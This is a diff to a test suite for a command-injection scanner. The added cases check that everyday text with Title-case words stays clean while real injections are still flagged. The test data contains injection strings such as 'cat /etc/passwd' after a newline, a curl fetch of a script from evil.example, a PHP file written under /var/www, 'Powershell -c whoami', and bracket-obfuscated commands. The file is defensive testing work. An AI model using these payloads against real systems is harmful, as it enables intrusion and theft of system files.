@@ -818,8 +818,8 @@ describe('cmdi: a shell named with .exe', () => {
 
 describe('cmdi: type unions and brackets after a pipe', () => {
   // true/false after a single '|' is a type union or a list of values (MemoizeMap | false;), and a ']' that no '['
-  // opened leaves a word literal (| Date]); "|| true", "; true", [c]at, ca[t] still count
-  it.each([['x || true', 'cmdi.chained-command'], ['x; true', 'cmdi.chained-command'], ['a | Date', 'cmdi.chained-command'],
+  // opened leaves a word literal (| Date]); "|| true", "; true", "a | date", [c]at, ca[t] still count ("a | Date" alone: see session 21)
+  it.each([['x || true', 'cmdi.chained-command'], ['x; true', 'cmdi.chained-command'], ['a | date', 'cmdi.chained-command'],
     ['ca[t] /etc/x', 'cmdi.obfuscated-command'], [';c[a]t /tmp/x', 'cmdi.chained-command'], [';[w]hoami', 'cmdi.chained-command'],
     [';./run.sh', 'cmdi.chained-command'], ['x `whoami` y', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
@@ -1677,4 +1677,32 @@ describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newl
   // a document, a folder or a path mentioned after ';' or in prose; C:\Program Files\x.exe unquoted runs C:\Program (split at the space)
   it.each(['Docs & C:\\Users\\me\\notes.txt', 'Saved to: C:\\Temp\\x.exe', 'x&c:\\temp', 'Paths & c:\\windows\\system32',
     'x&\\\\fileserver\\shared\\Finance', 'x&C:\\Program Files\\app.exe', 'x;c:\\tools\\app.exe'])('%s stays clean', expectNoCmdi);
+});
+
+// Session 21 (red team rtc23, false positives): a command word on Unix is a lower-case file name, so a Title-case word
+// ("Route", "Cat", "History") runs nothing there; where case is folded (cmd.exe, PowerShell, a macOS file system) what
+// follows the word still decides. A Title-case command opening a line after a newline is judged as a value opening with
+// it; a Title-case English-word command alone before a separator or the end is a list's item or a menu's entry.
+describe('cmdi session 21 (rtc23): a line of text that opens with a Title-case command word', () => {
+  it.each(['Farm Shop\nRoute 9\nSpringfield, IL', 'Unit 4\nExit 12 Business Park\nLeeds', 'Delivery notes:\nEcho Park entrance, gate code 1234',
+    'Hi,\nCut 2 pieces of 40cm please\nThanks', 'Shopping list:\nCat food\nMilk', 'Agenda:\nStart 9am\nLunch 12pm',
+    'Reminder:\nTouch up paint in hallway', 'Weekend plans:\nCurl up with a book', 'Notes\nDate 5 May\nTime 10:00',
+    'Hi team,\nPing me when the build is done', 'Dear Sam,\r\nKill the lights when you leave', 'Menu:\n Sort by price'])('%s stays clean', expectNoCmdi);
+  // (the mail verbs and IMAP tags: a line of text, not a protocol line)
+  it.each(['My top 3:\nTop Gun\nJaws', 'Contact\nMail to: info@example.com', 'Menu\nWait list open', 'Report\nData attached\nBye'])('%s stays clean', expectNoCmdi);
+  // lower-case, upper-case or escaped it is read as before; so is a Title-case word given a path, an option or a host
+  it.each(['x\nid', 'x\ncat /etc/passwd', 'x\ncat food', 'x\nsleep 5', 'x\nCat /etc/passwd', 'x\nPing -c 3 evil.example',
+    'x\nCurl http://evil.example/x.sh', 'x\nCAT food', 'x%0a%43at food', 'x\\nCat /etc/passwd', 'x\nTee /var/www/x.php',
+    'x\nPowershell -c whoami', 'x\r\nDATA\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\nTOP 1 10\r\n'])('%s is a command', expectCmdi);
+});
+
+describe('cmdi session 21 (rtc23): a Title-case English-word command alone before a separator or the end', () => {
+  it.each(['About Us | History', 'Pricing | Free', 'Docs | Source', 'Reviews | Top', 'Team | Who', 'Account | Export', 'File | Open',
+    'Edit | Find', 'View | Source', 'Time | Date', 'Import | Export', 'Less | More', 'Paste | Format', 'Home | Blog | History',
+    'Cat; Dog; Fish', 'Tee; Shirts; Hats', 'Order: Head & Shoulders; Tail & Co.', 'Fruit; Cheese; Bread | Date'])('%s stays clean', expectNoCmdi);
+  // (alone, source and open name nothing to read or open: lower-case too)
+  it.each(['docs | source', 'file | open', 'x;source', 'x | open'])('%s stays clean', expectNoCmdi);
+  // given an argument, lower-case, or a strong command a case-folding shell runs alone (x|Whoami), it still counts
+  it.each(['x;Cat /etc/passwd', 'x|Cat /etc/passwd', 'x|id', 'x;ls -la', 'x | date', 'x;date', 'x|Whoami', 'x;Hostname',
+    'x; Date > /tmp/x', 'x|Sort -r', 'x;Find / -name x', 'x|source /tmp/x.sh', 'x;open /etc/passwd', ';history', ';top', 'tee; id', 'x | history'])('%s is a command', expectCmdi);
 });
